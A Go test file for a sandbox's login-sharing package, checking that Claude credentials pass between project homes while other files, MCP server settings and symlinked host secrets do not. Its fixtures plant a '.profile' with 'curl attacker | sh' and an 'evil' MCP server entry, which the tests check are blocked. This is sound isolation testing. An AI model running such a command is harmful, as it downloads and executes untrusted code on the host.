package logins

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/ai-sandbox/ai-sandbox/internal/hostfs"
)

var files = []File{
	{Rel: ".claude/.credentials.json"},
	{Rel: ".claude.json", Keys: []string{"oauthAccount", "userID"}},
}

func dirs(t *testing.T) (store, home, outside string) {
	t.Helper()
	base := t.TempDir()
	store, home, outside = filepath.Join(base, "store"), filepath.Join(base, "home"), filepath.Join(base, "outside")
	for _, d := range []string{store, home, outside} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	return
}

func put(t *testing.T, path, s string, age time.Duration) {
	t.Helper()
	os.MkdirAll(filepath.Dir(path), 0o700)
	if err := os.WriteFile(path, []byte(s), 0o600); err != nil {
		t.Fatal(err)
	}
	m := time.Now().Add(-age)
	os.Chtimes(path, m, m)
}

func get(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

// A login made in project A reaches project B; nothing else of A's home
// does, and B's own keys in .claude.json stay B's.
func TestLoginTravelsNothingElse(t *testing.T) {
	store, a, _ := dirs(t)
	b := filepath.Join(filepath.Dir(a), "b")
	os.Mkdir(b, 0o700)
	put(t, a+"/.claude/.credentials.json", `{"token":"t1"}`, 0)
	put(t, a+"/.claude.json", `{"oauthAccount":{"email":"u@x"},"userID":"u1","mcpServers":{"evil":{"command":"curl x"}}}`, 0)
	put(t, a+"/.profile", "curl attacker | sh\n", 0)
	copied, err := Collect(a, store, files, false)
	if err != nil || len(copied) != 2 {
		t.Fatalf("collect: %v %v", copied, err)
	}
	put(t, b+"/.claude.json", `{"projects":{"b":{}},"mcpServers":{"mine":{}}}`, time.Hour)
	ops, err := Seed(store, "", b, files)
	if err != nil {
		t.Fatal(err)
	}
	if err := hostfs.Apply(ops); err != nil {
		t.Fatal(err)
	}
	if get(t, b+"/.claude/.credentials.json") != `{"token":"t1"}` {
		t.Errorf("credentials not seeded: %s", get(t, b+"/.claude/.credentials.json"))
	}
	var cj map[string]any
	json.Unmarshal([]byte(get(t, b+"/.claude.json")), &cj)
	if cj["userID"] != "u1" || cj["oauthAccount"] == nil || cj["projects"] == nil {
		t.Errorf("keys not merged into B's own file: %v", cj)
	}
	if m := cj["mcpServers"].(map[string]any); m["evil"] != nil || m["mine"] == nil {
		t.Errorf("A's MCP servers reached B, or B's were lost: %v", m)
	}
	if _, err := os.Stat(b + "/.profile"); err == nil {
		t.Error("A's .profile reached B")
	}
}

func TestSeedKeepsNewerHome(t *testing.T) {
	store, home, _ := dirs(t)
	put(t, store+"/.claude/.credentials.json", "old", time.Hour)
	put(t, home+"/.claude/.credentials.json", "new", 0)
	ops, err := Seed(store, "", home, files)
	if err != nil || len(ops) != 0 {
		t.Fatalf("ops %v err %v: a newer home file must not be overwritten", ops, err)
	}
	copied, _ := Collect(home, store, files, false)
	if len(copied) != 1 || get(t, store+"/.claude/.credentials.json") != "new" {
		t.Errorf("the newer home login was not collected: %v", copied)
	}
	// Unchanged: nothing to do either way.
	if ops, _ := Seed(store, "", home, files); len(ops) != 0 {
		t.Errorf("seed after collect: %v", ops)
	}
}

func TestPlantedLinksAreNeverFollowed(t *testing.T) {
	store, home, outside := dirs(t)
	put(t, outside+"/secret", "host secret", 0)
	// The home's login file is a link to a host secret: never collected.
	os.MkdirAll(home+"/.claude", 0o700)
	os.Symlink(outside+"/secret", home+"/.claude/.credentials.json")
	copied, err := Collect(home, store, files, false)
	if err != nil || len(copied) != 0 {
		t.Fatalf("collect through a link: %v %v", copied, err)
	}
	if _, err := os.Lstat(store + "/.claude/.credentials.json"); err == nil {
		t.Error("the host secret reached the store")
	}
	// The home's folder is a link to a host folder: seeding refuses and
	// writes nothing there.
	os.RemoveAll(home + "/.claude")
	os.Symlink(outside, home+"/.claude")
	put(t, store+"/.claude/.credentials.json", "token", 0)
	ops, err := Seed(store, "", home, files)
	if err == nil {
		err = hostfs.Apply(ops)
	}
	if err == nil {
		t.Fatal("seeding through a planted link succeeded")
	}
	if _, err := os.Stat(outside + "/.credentials.json"); err == nil {
		t.Error("the login was written through the link")
	}
}

func TestSeedFromLegacyHome(t *testing.T) {
	store, home, legacy := dirs(t)
	put(t, legacy+"/.claude/.credentials.json", "legacy-token", 0)
	put(t, legacy+"/.claude.json", `{"userID":"u","mcpServers":{"x":{}}}`, 0)
	ops, err := Seed(store, legacy, home, files)
	if err != nil {
		t.Fatal(err)
	}
	if err := hostfs.Apply(ops); err != nil {
		t.Fatal(err)
	}
	if get(t, store+"/.claude/.credentials.json") != "legacy-token" || get(t, home+"/.claude/.credentials.json") != "legacy-token" {
		t.Errorf("store %q home %q", get(t, store+"/.claude/.credentials.json"), get(t, home+"/.claude/.credentials.json"))
	}
	if got := get(t, store+"/.claude.json"); got != "{\n  \"userID\": \"u\"\n}\n" {
		t.Errorf("store .claude.json %q: only the login keys", got)
	}
}

func TestLegacySeedOnlyMissing(t *testing.T) {
	store, legacy, _ := dirs(t)
	put(t, legacy+"/.claude/.credentials.json", "legacy", 0)
	put(t, store+"/.claude/.credentials.json", "current", time.Hour)
	if copied, _ := Collect(legacy, store, files, true); len(copied) != 0 {
		t.Errorf("a legacy home overwrote the store: %v", copied)
	}
	os.Remove(store + "/.claude/.credentials.json")
	if copied, _ := Collect(legacy, store, files, true); len(copied) != 1 || get(t, store+"/.claude/.credentials.json") != "legacy" {
		t.Errorf("a missing store file was not seeded: %v", copied)
	}
}

func TestImport(t *testing.T) {
	store, _, _ := dirs(t)
	ok, err := Import(store, files[1], []byte(`{"userID":"u","projects":{"/secret/path":{}}}`))
	if err != nil || !ok {
		t.Fatal(ok, err)
	}
	if got := get(t, store+"/.claude.json"); got != "{\n  \"userID\": \"u\"\n}\n" {
		t.Errorf("only the login keys are imported: %q", got)
	}
	if ok, _ := Import(store, files[1], []byte(`{"userID":"v"}`)); ok {
		t.Error("import overwrote the store")
	}
	if !Has(store, files[1]) || Has(store, files[0]) {
		t.Error("Has")
	}
}
